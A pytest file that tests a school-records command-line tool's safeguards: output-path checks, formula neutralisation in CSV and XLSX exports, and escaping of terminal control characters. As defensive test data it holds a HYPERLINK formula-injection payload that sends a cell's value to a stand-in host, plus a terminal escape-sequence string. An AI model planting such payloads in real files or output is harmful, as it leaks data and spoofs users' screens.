"""Files a command writes and text it prints cannot attack their reader, and a message tells the
truth about what was written: output paths are checked before anything is read or written (a
missing folder, a symlink, a device, the input file itself), cells that a spreadsheet would run
as formulas are inert in every CSV and workbook written, and stored control characters are
escaped on the terminal."""

from __future__ import annotations

import csv
import os
import sqlite3

import openpyxl
import pytest

from tests.cli.test_import_cli import table_contents

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


def db_path(url: str) -> str:
    return url.removeprefix("sqlite:///")


@pytest.fixture
def school(xiaoqi_factory):
    return xiaoqi_factory.school(name="南京测试学院")


def set_name(url: str, code: str, name: str) -> None:
    """A stored value as an older version (or another program) may have left it."""
    conn = sqlite3.connect(db_path(url))
    conn.execute("UPDATE schools SET name = ? WHERE school_code = ?", (name, code))
    conn.commit()
    conn.close()


def mixed_file(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_text("school_code,name,level,region\n4132090000,好学院,高职,320100\n4132090001,,高职,320100\n", encoding="utf-8")
    return path


# -- 2. the message is the truth -----------------------------------------------------------------

def test_errors_to_a_missing_folder_is_refused_before_anything_is_written(xiaoqi_cli, xiaoqi_db_url, tmp_path):
    before = table_contents(xiaoqi_db_url)
    result = xiaoqi_cli("import", "schools", mixed_file(tmp_path), "--skip-invalid", "--errors", tmp_path / "no" / "e.csv")
    assert result.exit_code == 2 and "目录不存在" in result.stderr and "内部错误" not in result.stderr
    assert table_contents(xiaoqi_db_url) == before


def test_errors_onto_the_input_file_is_refused_and_the_input_kept(xiaoqi_cli, xiaoqi_db_url, tmp_path):
    source = mixed_file(tmp_path)
    content = source.read_bytes()
    result = xiaoqi_cli("import", "schools", source, "--errors", source)
    assert result.exit_code == 2 and "读取的文件" in result.stderr
    assert source.read_bytes() == content


# -- 3. a missing output folder, for every command that writes a file ----------------------------

@pytest.mark.parametrize("args", [
    ("export", "schools", "-o", "{dir}/s.csv"), ("export", "schools", "-o", "{dir}/s.xlsx"),
    ("template", "schools", "-o", "{dir}/t.xlsx"), ("backup", "{dir}/b.db"),
    ("report", "annual", "--year", "2026", "-o", "{dir}/r.md"), ("report", "annual", "--year", "2026", "-o", "{dir}/r.xlsx"),
], ids=lambda a: "-".join(a[:2]))
def test_a_missing_output_folder_gets_its_own_message(xiaoqi_cli, tmp_path, args):
    result = xiaoqi_cli("--lang", "en", *[a.format(dir=tmp_path / "missing") for a in args])
    assert result.exit_code in (1, 2), result.stderr
    assert "does not exist" in result.stderr and "Internal error" not in result.stderr, result.stderr


# -- 5. files that cannot attack their reader ---------------------------------------------------

def test_csv_and_xlsx_exports_neutralise_formulas_and_import_back_unchanged(xiaoqi_cli, xiaoqi_db_url, school, tmp_path):
    for name in (FORMULA, "+86 138", "-5", "@SUM(A1)"):
        set_name(xiaoqi_db_url, school.school_code, name)
        out = tmp_path / "s.csv"
        out.unlink(missing_ok=True)
        assert xiaoqi_cli("export", "schools", "-o", out).exit_code == 0
        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
        assert rows[1][1] == "'" + name
        book = tmp_path / "s.xlsx"
        book.unlink(missing_ok=True)
        assert xiaoqi_cli("export", "schools", "-o", book).exit_code == 0
        sheet = openpyxl.load_workbook(book).active
        assert sheet["B2"].value == name and sheet["B2"].data_type == "s"
        for again in (out, book):  # the neutralised files read back as the stored value
            assert xiaoqi_cli("import", "schools", again).exit_code == 0
            assert table_contents(xiaoqi_db_url, ["schools"])["schools"][0][2] == name


def test_the_xlsx_report_and_the_errors_file_hold_no_live_formula(xiaoqi_cli, xiaoqi_db_url, xiaoqi_factory, tmp_path):
    internship = xiaoqi_factory.internship()
    set_name(xiaoqi_db_url, internship.school_code, FORMULA)
    report = tmp_path / "r.xlsx"
    assert xiaoqi_cli("report", "annual", "--year", str(internship.start_on.year), "-o", report).exit_code == 0
    cells = [c for s in openpyxl.load_workbook(report).worksheets for row in s.iter_rows() for c in row]
    assert FORMULA in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    bad = tmp_path / "f.csv"
    bad.write_text("school_code,name,level,region\n=1+2,x,高职,320100\n", encoding="utf-8")
    errors = tmp_path / "e.csv"
    xiaoqi_cli("import", "schools", bad, "--errors", errors)
    rows = list(csv.reader(errors.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][2] == "'=1+2"


def test_stored_control_characters_are_escaped_on_the_terminal_and_exports_still_work(xiaoqi_cli, xiaoqi_db_url, school, tmp_path):
    set_name(xiaoqi_db_url, school.school_code, "坏\x1b]0;owned\x07\x1b[2J学院\u202e")
    for args in (("records", "list", "schools"), ("records", "show", "schools", school.school_code)):
        result = xiaoqi_cli(*args)
        assert result.exit_code == 0
        assert "\x1b" not in result.output and "\u202e" not in result.output and "\\x1b" in result.output
    missing = xiaoqi_cli("records", "show", "schools", "41320\x1b[2J")
    assert "\x1b" not in missing.stderr
    out = tmp_path / "s.xlsx"
    assert xiaoqi_cli("export", "schools", "-o", out).exit_code == 0  # the ESC no longer breaks the workbook
    assert "\\x1b" in openpyxl.load_workbook(out).active["B2"].value


def test_output_never_replaces_a_symlink_or_a_device(xiaoqi_cli, tmp_path, school):
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    links = {suffix: tmp_path / f"link{suffix}" for suffix in (".csv", ".xlsx", ".md")}
    for link in links.values():
        link.symlink_to(precious)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for args in (("export", "schools", "-o", links[".csv"]), ("template", "schools", "-o", links[".xlsx"]),
                 ("report", "annual", "--year", "2026", "-o", links[".md"]), ("backup", links[".csv"])):
        result = xiaoqi_cli(*args)
        assert result.exit_code == 2 and "符号链接" in result.stderr, (args, result.stderr)
    result = xiaoqi_cli("export", "schools", "-o", fifo)
    assert result.exit_code == 2 and "不是普通文件" in result.stderr
    assert all(link.is_symlink() for link in links.values()) and precious.read_text() == "keep me"
    assert fifo.is_fifo()


def test_an_export_never_overwrites_the_database(xiaoqi_cli, xiaoqi_db_url):
    result = xiaoqi_cli("export", "schools", "-o", db_path(xiaoqi_db_url), "--format", "csv")
    assert result.exit_code == 2 and "读取的文件" in result.stderr
    assert xiaoqi_cli("status").exit_code == 0
